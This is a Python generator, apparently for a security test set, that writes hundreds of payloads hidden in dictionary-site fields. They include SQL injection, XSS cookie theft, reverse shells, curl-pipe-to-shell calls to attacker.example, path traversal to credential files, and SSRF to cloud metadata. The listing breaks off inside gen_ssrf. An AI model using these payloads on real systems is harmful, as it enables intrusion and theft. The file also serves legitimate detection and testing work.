"""Attack corpus for the "lexicon" held-out set (dictionary / linguistics research site).

Attacks are hidden in the notations of the site's ordinary fields (headwords,
IPA, etymologies, interlinear glosses, phonological rules, CQL searches,
citations, contributor comments, TEI/CSV imports, audio file names) and are
aimed at a vulnerable app that puts the value where the class says:

  class = "<context>-<technique>[+<encoding>]"

Contexts: headword, ipa, etym, gloss, rule, cql, example, citation, comment,
definition, search, audio, import, export, contact, plain (bare payload).
All payloads were hand-written for this corpus from an understanding of each
technique; templates only combine hand-written pools and apply encodings.

Run: python3 make_attacks.py  ->  attacks.jsonl next to this file.
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 7602
PREFIX = "ha76"

TARGETS = {
    "sqli": 76, "xss": 76, "cmdi": 70, "traversal": 50, "ssrf": 50,
    "code": 76, "nosqli": 22, "crlf": 28, "ldap-xpath": 20,
}

# ---------------------------------------------------------------------------
# SQL injection: the field is concatenated into a SQL statement
# ---------------------------------------------------------------------------
SQLI = [
    ("headword-union", "water' UNION SELECT username, password_hash FROM users-- -"),
    ("headword-union", "eau' UNION ALL SELECT NULL, table_name, NULL FROM information_schema.tables#"),
    ("headword-boolean-blind", "Wasser' AND SUBSTRING((SELECT password_hash FROM users WHERE id=1),1,1)='$'-- "),
    ("headword-time-blind", "drop' AND (SELECT 1 FROM (SELECT SLEEP(6))t)-- -"),
    ("ipa-union", "/ˈwɔːtə/' UNION SELECT email, api_token FROM contributors-- "),
    ("ipa-error", "[ˈvasɐ]' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version)))-- -"),
    ("ipa-time-blind", "/sliːp/'||pg_sleep(7)||'"),
    ("etym-union", "PIE *wódr̥ > *watōr') UNION SELECT 1,group_concat(name),3 FROM sqlite_master-- "),
    ("etym-boolean-blind", "*h₂éwis' AND 1=(SELECT CASE WHEN (SELECT count(*) FROM admins)>0 THEN 1 ELSE 0 END)-- "),
    ("etym-stacked", "Lat. aqua → Fr. eau'; DROP TABLE entries;-- "),
    ("etym-error", "*bʰer-' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)-- "),
    ("gloss-union", "DEF-dog-PL' UNION SELECT login, pass FROM editors WHERE 'a'='a"),
    ("gloss-boolean-blind", "1SG.SBJ-PRS-love' AND ASCII(SUBSTR((SELECT secret FROM config LIMIT 1),1,1))>77-- "),
    ("gloss-stacked", "kitap-lar-ım'; UPDATE users SET role='admin' WHERE email='x@attacker.example';-- "),
    ("rule-union", "V → [+nasal] / _N') UNION SELECT password FROM users-- "),
    ("rule-time-blind", "C → ∅ / _ #'; WAITFOR DELAY '0:0:8'-- "),
    ("rule-error", "t → ɾ' AND UPDATEXML(1, CONCAT(0x3a, (SELECT user())), 1)-- "),
    ("cql-union", "[lemma=\"water\"]' UNION SELECT token, 2, 3 FROM sessions-- -"),
    ("cql-boolean-blind", "[pos=\"NN.*\"]' OR (SELECT 1 FROM users WHERE username='admin' AND password_hash LIKE 'a%')=1-- "),
    ("cql-time-blind", "[word=\"the\"]' AND 4321=BENCHMARK(9000000,MD5('x'))-- "),
    ("example-stacked", "She's on the alert'); INSERT INTO editors(login,role) VALUES('mallory','admin');-- "),
    ("example-union", "Let me sleep on it' UNION SELECT NULL,NULL,concat(login,':',pass) FROM editors-- "),
    ("citation-out-of-band", "OED s.v. water' AND LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM mysql.user LIMIT 1), '.oob.attacker.example\\\\a'))-- "),
    ("citation-out-of-band", "Pokorny 1959'; EXEC master..xp_dirtree '\\\\203.0.113.9\\share';-- "),
    ("citation-out-of-band", "Kluge s.v. Wasser' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("comment-stacked", "+1 to the merge'; TRUNCATE TABLE revisions; --"),
    ("comment-second-order", "maria'-- "),
    ("comment-second-order", "admin' #"),
    ("definition-union", "n. (pl. -s)' UNION SELECT version(), current_user-- -"),
    ("definition-error", "lit. 'wind-eye'' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))-- "),
    ("search-boolean", "wat%' OR '1'='1"),
    ("search-boolean", "' OR 1=1 ORDER BY 1-- -"),
    ("search-like-wildcard", "%' AND password_hash LIKE '$2b$%' AND '%'='"),
    ("search-order-by", "headword, (SELECT CASE WHEN (SELECT substr(pass,1,1) FROM editors LIMIT 1)='a' THEN headword ELSE ipa END)"),
    ("search-order-by", "1,(SELECT 1 FROM pg_sleep(5))"),
    ("search-numeric", "12 OR 1=1"),
    ("search-numeric", "3 UNION SELECT id, login, pass FROM editors"),
    ("search-numeric", "-1 UNION SELECT load_file('/etc/passwd'),2"),
    ("headword-into-outfile", "eau' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/x.php'-- "),
    ("headword-sqlite", "水' UNION SELECT sql FROM sqlite_master WHERE type='table'-- "),
    ("headword-oracle", "вода' UNION SELECT banner, NULL FROM v$version-- "),
    ("headword-mssql-stacked", "Ελλάδα'; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC xp_cmdshell 'whoami';-- "),
    ("headword-postgres-stacked", "tuli'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/$(id|base64)';-- "),
    ("headword-json-operator", "water' OR data->>'role'='admin'-- "),
    ("headword-union+hex-literal", "x' UNION SELECT 1, 0x61646d696e-- "),
    ("headword-boolean+char-function", "x' OR login=CHAR(97,100,109,105,110)-- "),
    ("etym-insert-values", "ult. uncertain', (SELECT pass FROM editors LIMIT 1))-- "),
    ("gloss-insert-values", "NEG-know', 'approved', 1); -- "),
    ("ipa-update-set", "/ˈdeɪtə/', is_admin=1 WHERE login='mallory'-- "),
    ("comment-case-when", "ok' AND (CASE WHEN (SELECT COUNT(*) FROM editors WHERE role='admin')>2 THEN 1 ELSE 1/0 END)=1-- "),
    ("search-having", "' GROUP BY headword HAVING 1=1-- "),
    ("search-limit", "1 LIMIT 1 OFFSET 0 UNION SELECT pass FROM editors-- "),
    ("cql-stacked", "[lemma=\"drop\"]'; DELETE FROM corpus_hits;--"),
    ("definition-boolean-blind", "cf. alarm' AND (SELECT length(api_token) FROM contributors LIMIT 1)=40-- "),
    ("example-time-blind", "«On n'a pas le temps»' AND (SELECT 7 FROM (SELECT(SLEEP(5)))a) AND 'x'='x"),
    ("citation-union", "Buck 1949, §1.31' UNION SELECT NULL, GROUP_CONCAT(api_token SEPARATOR ';') FROM contributors-- "),
    ("headword-union+comment-space", "eau'/**/UNION/**/SELECT/**/login,pass/**/FROM/**/editors--/**/"),
    ("headword-union+versioned-comment", "water'/*!50000UNION*//*!50000SELECT*/ password_hash, 2 FROM users-- "),
    ("search-union+case-mixing", "agua' uNiOn SeLeCt pass, login FrOm editors-- -"),
    ("plain-union", "' UNION SELECT username, password FROM users--"),
    ("plain-boolean", "' OR 'x'='x"),
    ("plain-time-blind", "1' AND SLEEP(5)#"),
    ("plain-stacked", "1; DROP TABLE users--"),
    ("plain-error", "' AND 1=CONVERT(int, @@version)--"),
    ("plain-boolean", "\" OR \"\"=\""),
    ("plain-time-blind", "'); SELECT pg_sleep(10);--"),
    ("plain-union", "0 UNION SELECT NULL, @@hostname, user()-- -"),
    ("plain-boolean", "admin' --"),
    ("headword-backslash-escape", "water\\' OR 1=1-- "),
]
SQLI_PREFIX = ["water", "Wasser", "eau", "drop", "вода", "水", "/ˈwɔːtə/", "*watōr",
               "DEF-dog-PL", "[lemma=\"sleep\"]", "s.v. aqua"]
SQLI_CTX = ["headword", "ipa", "etym", "gloss", "cql", "citation"]
SQLI_CORES = [
    ("union", "' UNION SELECT login, pass FROM editors-- -"),
    ("boolean-blind", "' AND (SELECT COUNT(*) FROM editors)>0-- -"),
    ("time-blind", "' AND SLEEP(4)-- -"),
    ("error", "' AND EXTRACTVALUE(0, CONCAT(0x5c, database()))-- -"),
    ("stacked", "'; DELETE FROM entries WHERE 1=1;-- -"),
]


def gen_sqli(rng):
    ctx = rng.choice(SQLI_CTX)
    tech, core = rng.choice(SQLI_CORES)
    v = rng.choice(SQLI_PREFIX) + core
    enc = rng.choice(["", "", "urlenc", "double-urlenc", "comment-space"])
    if enc == "urlenc":
        v = quote(v, safe="")
    elif enc == "double-urlenc":
        v = quote(quote(v, safe=""), safe="")
    elif enc == "comment-space":
        v = v.replace(" ", "/**/")
    return (f"{ctx}-{tech}" + (f"+{enc}" if enc else ""), v)


# ---------------------------------------------------------------------------
# XSS: the field is rendered into HTML without escaping
# ---------------------------------------------------------------------------
XSS = [
    ("headword-script-tag", "water<script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("headword-img-onerror", "eau<img src=x onerror=alert(document.domain)>"),
    ("ipa-svg-onload", "/ˈwɔːtə/<svg onload=alert(1)>"),
    ("ipa-attribute-breakout", "ˈvasɐ\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("ipa-ruby-event", "<ruby>水<rt onmouseenter=alert(1)>みず</rt></ruby>"),
    ("etym-details-ontoggle", "PIE *wódr̥ > <details open ontoggle=alert(document.domain)>*watōr</details>"),
    ("etym-anchor-javascript", "Lat. aqua → <a href=\"javascript:alert(document.cookie)\">eau</a>"),
    ("etym-marquee", "*h₂éwis <marquee onstart=alert(1)>avis</marquee>"),
    ("gloss-iframe-srcdoc", "DEF-dog-PL <iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("gloss-textarea-breakout", "ni-na-ku-penda</textarea><script>alert(1)</script>"),
    ("gloss-multiline-script", "die Hund-e\nDEF.NOM.PL dog-PL<script>\nnew Image().src='//attacker.example/?'+localStorage.token\n</script>\n'the dogs'"),
    ("rule-svg-animate", "V → [+nasal] <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("rule-math-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("cql-attribute-breakout", "[lemma=\"water\"]\"><script>alert(1)</script>"),
    ("cql-js-string-breakout", "[pos=\"NN.*\"]';alert(document.domain);//"),
    ("cql-script-close", "[word=\"the\"]</script><script>alert(1)</script>"),
    ("example-img-onerror", "She's on the alert <img src=/ onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
    ("example-body-onload", "«On n'a pas le temps» <body onload=alert(1)>"),
    ("example-input-autofocus", "Please select one <input autofocus onfocus=alert(1)>"),
    ("example-video-source", "<video><source onerror=\"alert(document.cookie)\"></video> Rain drops"),
    ("example-audio", "<audio src=x onerror=alert(1)>listen: /sliːp/"),
    ("citation-javascript-uri", "javascript:alert(document.cookie)//https://www.dwds.de/wb/Wasser"),
    ("citation-javascript-uri", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("citation-data-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("citation-object-data", "OED s.v. water <object data=\"javascript:alert(1)\"></object>"),
    ("citation-embed", "Pokorny 1959 <embed src=\"data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>\">"),
    ("citation-base-href", "<base href=\"https://attacker.example/\">Buck 1949, §1.31"),
    ("citation-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/phish\">"),
    ("comment-form-hijack", "+1 <form action=\"https://attacker.example/log\"><input name=password type=password placeholder=\"Session expired, re-enter password\"><button>OK</button></form>"),
    ("comment-svg-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">see s.v. water</text></a></svg>"),
    ("comment-style-onload", "Nit: <style onload=alert(1)></style> typo in line 2"),
    ("comment-title-breakout", "</title><script>alert(document.domain)</script>"),
    ("comment-srcset", "<img srcset=\",,,,,x\" onerror=alert(1)> thx!"),
    ("comment-link-import", "<link rel=stylesheet href=\"https://attacker.example/x.css\"><p class=admin-only>"),
    ("comment-dangling-markup", "Agree.<img src='https://attacker.example/log?html="),
    ("definition-onpointer", "lit. 'wind-eye' <span onpointerover=alert(1)>cf. window</span>"),
    ("definition-template-literal", "n. (pl. -s)<script>alert`1`</script>"),
    ("definition-json-breakout", "sense 2\"}</script><script>alert(1)</script>"),
    ("definition-select-onchange", "<select onfocus=alert(1) autofocus><option>adj.</option></select>"),
    ("search-reflected", "\"><svg/onload=alert(1)>"),
    ("search-reflected", "'\"><img src=x onerror=prompt(1)>"),
    ("search-reflected", "wat*<script src=https://attacker.example/x.js></script>"),
    ("search-dom-hash", "#<img src=x onerror=alert(1)>"),
    ("search-js-context", "water\";document.location='https://attacker.example/?c='+document.cookie;//"),
    ("search-angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("search-vue-template", "{{_c.constructor('alert(1)')()}}"),
    ("headword-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("headword-isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("headword-button-formaction", "<form><button formaction=javascript:alert(1)>Wasser</button></form>"),
    ("headword-anchor-javascript+tab-in-scheme", "<a href=\"java\tscript:alert(1)\">eau</a>"),
    ("ipa-anchor-javascript+html-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">/o/</a>"),
    ("etym-img-onerror+html-hex-entities", "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;\"> *watōr"),
    ("gloss-script-tag+unicode-escape", "<script>\\u0061\\u006c\\u0065\\u0072\\u0074(1)</script> DEF-dog-PL"),
    ("cql-script-tag+case-mixing", "[word=\"x\"]<ScRiPt>alert(1)</sCrIpT>"),
    ("comment-slash-separator", "<svg/onload=alert(1)//"),
    ("comment-unclosed-tag", "<img src=x onerror=alert(1)//"),
    ("definition-svg-foreign", "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>"),
    ("import-svg-upload", "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\">\n<text>IPA chart</text>\n</svg>"),
    ("example-keylogger", "<script>document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}</script>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(document.domain)>"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
    ("plain-body-onload", "<body onpageshow=alert(1)>"),
    ("plain-details", "<details ontoggle=alert(1) open>"),
    ("plain-anchor-javascript", "<a href=javascript:alert(1)>x</a>"),
]
XSS_PREFIX = ["water ", "/ˈwɔːtə/ ", "*watōr ", "DEF-dog-PL ", "cf. ", "s.v. eau "]
XSS_CTX = ["headword", "ipa", "etym", "gloss", "comment", "definition"]
XSS_CORES = [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("script-tag", "<script>alert(document.cookie)</script>"),
    ("attribute-breakout", "\" autofocus onfocus=alert(1) x=\""),
]


def gen_xss(rng):
    ctx = rng.choice(XSS_CTX)
    tech, core = rng.choice(XSS_CORES)
    v = rng.choice(XSS_PREFIX) + core
    enc = rng.choice(["", "", "urlenc", "double-urlenc", "case-mixing"])
    if enc == "urlenc":
        v = quote(v, safe="")
    elif enc == "double-urlenc":
        v = quote(quote(v, safe=""), safe="")
    elif enc == "case-mixing":
        v = "".join(c.upper() if i % 2 else c for i, c in enumerate(v))
    return (f"{ctx}-{tech}" + (f"+{enc}" if enc else ""), v)


# ---------------------------------------------------------------------------
# Command injection: the value ends up in a shell line (espeak/sox/ffmpeg for
# audio, grep over word lists, cqp for corpus queries, curl for citations...)
# ---------------------------------------------------------------------------
CMDI = [
    ("ipa-semicolon", "ˈwɔːtə; cat /etc/passwd"),
    ("ipa-subshell", "ˈvasɐ$(id)"),
    ("ipa-backtick", "sliːp`uname -a`"),
    ("ipa-pipe", "o | nc 203.0.113.7 4444 -e /bin/sh"),
    ("ipa-and", "ˈdeɪtə && curl -s http://attacker.example/x.sh | sh"),
    ("headword-or", "nonexistentword || wget -qO- http://198.51.100.23/k | bash"),
    ("headword-newline", "water\nid > /tmp/o"),
    ("headword-newline", "Wasser\ncurl http://attacker.example/$(whoami)\n"),
    ("headword-quote-breakout", "eau'; rm -rf /var/lib/lexicon/cache; echo '"),
    ("headword-quote-breakout", "drop\"; python3 -c 'import os;os.system(\"id\")'; echo \""),
    ("audio-filename", "water_uk.mp3; bash -i >& /dev/tcp/203.0.113.5/9001 0>&1"),
    ("audio-filename", "$(curl attacker.example/s|sh).wav"),
    ("audio-filename", "`sleep 10`.ogg"),
    ("audio-filename", "pron.ogg|ping -c 12 127.0.0.1"),
    ("audio-argument", "-filter_complex amovie=/etc/passwd pron.ogg"),
    ("audio-argument", "--help; sh -c 'nc -e /bin/sh 198.51.100.4 53'"),
    ("search-grep-argument", "--file=/etc/shadow"),
    ("search-grep-argument", "-r . /home"),
    ("search-find-argument", "-exec sh -c 'curl attacker.example/?d=$(cat /etc/hostname)' ;"),
    ("search-tar-argument", "--checkpoint=1 --checkpoint-action=exec=sh x.sh"),
    ("search-regex-breakout", "^un.*able$' /dev/null; cat /etc/passwd; echo '"),
    ("cql-cqp-breakout", "[lemma=\"water\"]\"; system(\"id\"); \""),
    ("cql-semicolon", "[pos=\"NN.*\"] within s; ! cat /etc/passwd"),
    ("cql-subshell", "[word=\"$(curl -d @/etc/passwd attacker.example)\"]"),
    ("etym-backtick", "PIE *wódr̥ > `wget -O /tmp/a http://attacker.example/a`"),
    ("etym-subshell", "Lat. aqua → $(nslookup $(whoami).oob.attacker.example)"),
    ("gloss-newline", "DEF-dog-PL\nsee-PST\ncat /etc/shadow | curl -F f=@- attacker.example"),
    ("gloss-and", "ni-na-ku-penda && touch /tmp/pwned"),
    ("rule-ifs", "V→Ṽ;cat${IFS}/etc/passwd"),
    ("rule-brace-expansion", "C → ∅;{cat,/etc/passwd}"),
    ("rule-wildcard", "x;/???/c?t /???/p?ss??"),
    ("rule-quote-splitting", "t→ɾ;c'a't /e\"t\"c/pa''sswd"),
    ("rule-backslash-splitting", "k→tʃ;w\\h\\o\\a\\m\\i"),
    ("rule-env-substring", "s→h;cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd"),
    ("citation-curl-argument", "https://www.dwds.de/wb/Wasser -o /var/www/html/shell.php"),
    ("citation-curl-argument", "-K /etc/passwd https://dle.rae.es/ciudad"),
    ("citation-wget-argument", "--post-file=/etc/passwd http://attacker.example/"),
    ("citation-git-argument", "--upload-pack=touch${IFS}/tmp/pwned"),
    ("citation-ssh-argument", "-oProxyCommand=curl attacker.example/p|sh x@lexicon"),
    ("import-filename", "entries.csv; curl http://198.51.100.77/r.sh|sh"),
    ("import-filename", "tei.xml`nc 203.0.113.9 4444 -e sh`"),
    ("export-format", "pdf && cat ~/.ssh/id_rsa | nc 203.0.113.12 9999"),
    ("export-format", "html; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjMvNDQ0NCAwPiYx | base64 -d | bash"),
    ("headword-windows-ampersand", "eau & type C:\\Windows\\win.ini"),
    ("headword-windows-pipe", "Wasser | powershell -nop -c \"iwr http://attacker.example/a.ps1|iex\""),
    ("headword-windows-comspec", "x & %COMSPEC% /c whoami > C:\\inetpub\\wwwroot\\o.txt"),
    ("headword-windows-caret", "water & w^h^o^a^m^i"),
    ("ipa-semicolon+hex-escape", "o;$'\\x63\\x61\\x74' /etc/passwd"),
    ("ipa-subshell+octal-escape", "o;$(printf '\\151\\144')"),
    ("definition-perl-open", "| /bin/sh -c 'id' |"),
    ("definition-process-substitution", "n.; cat <(id)"),
    ("example-redirection", "Let me sleep on it; echo '* * * * * root curl attacker.example|sh' > /etc/cron.d/x"),
    ("example-time-based", "Rain drops & sleep 15 &"),
    ("example-time-based", "«eau»; ping -n 20 127.0.0.1"),
    ("comment-oob-dns", "+1; dig $(hostname).oob.attacker.example"),
    ("comment-reverse-shell", "thx; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.44\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("comment-chained", "done && (id; uname -a; cat /etc/os-release) > /var/www/html/i.txt"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backtick", "`id`"),
    ("plain-and", "&& ls -la /"),
    ("plain-newline", "\nuname -a"),
    ("plain-or", "|| curl attacker.example"),
]
CMDI_PREFIX = ["ˈwɔːtə", "water", "eau", "DEF-dog-PL", "pron_uk.ogg", "[lemma=\"drop\"]"]
CMDI_CTX = ["ipa", "headword", "headword", "gloss", "audio", "cql"]
CMDI_CORES = [
    ("semicolon", ";cat /etc/passwd"),
    ("subshell", "$(curl attacker.example/x|sh)"),
    ("pipe", "|id"),
    ("and", "&&wget http://198.51.100.9/b -O /tmp/b"),
]


def gen_cmdi(rng):
    i = rng.randrange(len(CMDI_PREFIX))
    tech, core = rng.choice(CMDI_CORES)
    v = CMDI_PREFIX[i] + core
    enc = rng.choice(["", "urlenc", "ifs"])
    if enc == "urlenc":
        v = quote(v, safe="")
    elif enc == "ifs":
        v = v.replace(" ", "${IFS}")
    return (f"{CMDI_CTX[i]}-{tech}" + (f"+{enc}" if enc else ""), v)


# ---------------------------------------------------------------------------
# Path traversal: value used as a file path (audio files, export names,
# dictionary data files, stylesheet/template names)
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("audio-dotdot", "../../../../etc/passwd"),
    ("audio-dotdot", "pron/en/../../../../../etc/shadow"),
    ("audio-dotdot", "water_uk.mp3/../../../../proc/self/environ"),
    ("audio-null-byte", "../../../../etc/passwd%00.ogg"),
    ("audio-null-byte", "../../../app/config.py\u0000.mp3"),
    ("audio-absolute", "/etc/passwd"),
    ("audio-absolute", "/proc/self/cmdline"),
    ("audio-absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("export-dotdot", "lexicon-export/../../../../home/app/.ssh/id_rsa"),
    ("export-windows", "..\\..\\..\\..\\Windows\\win.ini"),
    ("export-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("export-windows-mixed", "..\\../..\\../boot.ini"),
    ("export-unc", "\\\\203.0.113.8\\share\\lexicon.csv"),
    ("headword-dotdot", "../../../etc/hosts"),
    ("headword-dotdot", "eau/../../../../../../etc/group"),
    ("headword-filter-bypass", "....//....//....//etc/passwd"),
    ("headword-filter-bypass", "..././..././..././etc/passwd"),
    ("headword-filter-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("import-zip-slip", "../../../../var/www/html/uploads/x.php"),
    ("import-zip-slip", "dict/../../../../../etc/cron.d/lexicon"),
    ("import-xsl-stylesheet", "../../../../../etc/passwd#tei.xsl"),
    ("ipa-font-file", "fonts/../../../../../app/.env"),
    ("citation-file-scheme", "file:///etc/passwd"),
    ("citation-file-scheme", "file://localhost/c:/windows/win.ini"),
    ("citation-php-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("citation-php-wrapper", "php://filter/read=string.rot13/resource=/etc/passwd"),
    ("gloss-template-name", "gloss/../../../../../../proc/self/cwd/settings.py"),
    ("definition-tomcat-semicolon", "/static/..;/..;/WEB-INF/web.xml"),
    ("definition-jar-path", "/resources/../WEB-INF/classes/application.properties"),
    ("search-git-dir", "../../../.git/config"),
    ("search-proc", "/proc/self/fd/3"),
    ("comment-attachment", "attachments/../../../../../../root/.bash_history"),
    ("audio-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("audio-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("audio-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("audio-dotdot+overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("export-dotdot+partial-urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("export-dotdot+u-escape", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("export-windows+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("plain-dotdot", "../../../../../../etc/passwd"),
    ("plain-windows", "..\\..\\..\\..\\..\\windows\\system32\\config\\SAM"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot", "../../../../../../../proc/self/environ"),
    ("plain-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fshadow"),
]
TRAV_BASES = ["pron/uk/", "media/audio/", "exports/", "tei/", "static/fonts/", ""]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "app/config.py",
                "home/app/.aws/credentials", "var/log/nginx/access.log"]


def gen_traversal(rng):
    depth = rng.randint(3, 8)
    base = rng.choice(TRAV_BASES)
    tgt = rng.choice(TRAV_TARGETS)
    v = base + "../" * depth + tgt
    enc = rng.choice(["", "urlenc", "double-urlenc", "backslash"])
    if enc == "urlenc":
        v = quote(v, safe="")
    elif enc == "double-urlenc":
        v = quote(quote(v, safe=""), safe="")
    elif enc == "backslash":
        v = v.replace("/", "\\")
    ctx = "audio" if base.startswith(("pron", "media")) else "export"
    return (f"{ctx}-dotdot" + (f"+{enc}" if enc else ""), v)


# ---------------------------------------------------------------------------
# SSRF: value is a URL the server fetches (citation link preview, "import
# entries from URL", audio URL, TEI schema location)
# ---------------------------------------------------------------------------
SSRF = [
    ("citation-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("citation-cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("citation-cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/project/attributes/?recursive=true"),
    ("citation-cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("citation-cloud-metadata", "http://[fd00:ec2::254]/latest/user-data"),
    ("citation-loopback", "http://127.0.0.1:8080/admin/users"),
    ("citation-loopback", "http://localhost:9200/_cat/indices?v"),
    ("citation-loopback", "http://127.0.0.1:2375/containers/json"),
    ("citation-loopback", "http://[::1]:8500/v1/agent/self"),
    ("citation-loopback+decimal-ip", "http://2130706433/admin"),
    ("citation-loopback+hex-ip", "http://0x7f000001:8000/"),
    ("citation-loopback+octal-ip", "http://0177.0.0.1/server-status"),
    ("citation-loopback+short-ip", "http://127.1:6379/"),
    ("citation-zero-ip", "http://0/"),
    ("citation-ipv6-mapped", "http://[::ffff:127.0.0.1]:5000/internal/export"),
    ("citation-cloud-metadata+ipv6-mapped-hex", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("citation-cloud-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("citation-cloud-metadata+mixed-radix-ip", "http://0xa9.254.0251.254/latest/meta-data/"),
    ("citation-userinfo-confusion", "https://www.dwds.de@127.0.0.1:8080/admin"),
    ("citation-userinfo-confusion", "http://attacker.example@169.254.169.254/latest/meta-data/"),
    ("citation-fragment-confusion", "http://127.0.0.1:8080#@www.duden.de/rechtschreibung/Wasser"),
    ("citation-backslash-confusion", "http://dle.rae.es\\@127.0.0.1/"),
    ("citation-dns-rebinding", "http://loopback.attacker.example:8080/admin"),
    ("citation-dns-pointing-internal", "http://169-254-169-254.attacker.example/latest/meta-data/"),
    ("citation-open-redirect", "https://attacker.example/r?to=http://127.0.0.1:8080/admin"),
    ("citation-open-redirect", "http://198.51.100.20/302?u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("import-gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fetc%2Fcron.d%0D%0ASAVE%0D%0A"),
    ("import-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0A"),
    ("import-dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("import-file-scheme", "file:///proc/self/environ"),
    ("import-ftp-internal", "ftp://10.0.0.5/backup/lexicon.sql"),
    ("import-ldap-scheme", "ldap://127.0.0.1:389/dc=lexicon,dc=internal??sub"),
    ("import-internal-host", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("import-internal-host", "http://lexicon-db.internal:5984/_all_dbs"),
    ("import-private-range", "http://10.0.0.1/"),
    ("import-private-range", "http://192.168.1.1/cgi-bin/config.exp"),
    ("import-private-range", "http://172.16.0.10:8983/solr/admin/cores?action=STATUS"),
    ("audio-url-internal", "http://127.0.0.1:9000/minio/admin/v3/info"),
    ("audio-url-loopback+ideographic-dot", "http://127。0。0。1:8080/admin"),
    ("audio-url-loopback+enclosed-digits", "http://①②⑦.⓪.⓪.①/"),
    ("ipa-font-url", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("import-jar-scheme", "jar:http://attacker.example/evil.jar!/"),
    ("import-netdoc-scheme", "netdoc:///etc/passwd"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-loopback", "http://localhost/"),
    ("plain-loopback", "http://127.0.0.1:22/"),
    ("plain-loopback+decimal-ip", "http://3232235777/"),
]
SSRF_HOSTS = ["127.0.0.1", "localhost", "169.254.169.254", "[::1]", "10.1.2.3", "0.0.0.0"]
SSRF_PATHS = ["/admin", "/latest/meta-data/", "/internal/users", "/_cluster/health",
              "/server-status", "/debug/vars"]
SSRF_PORTS = ["", ":80", ":8080", ":8000", ":5000"]


def gen_ssrf(rng):
    h = rng.choice(SSRF_HOSTS)
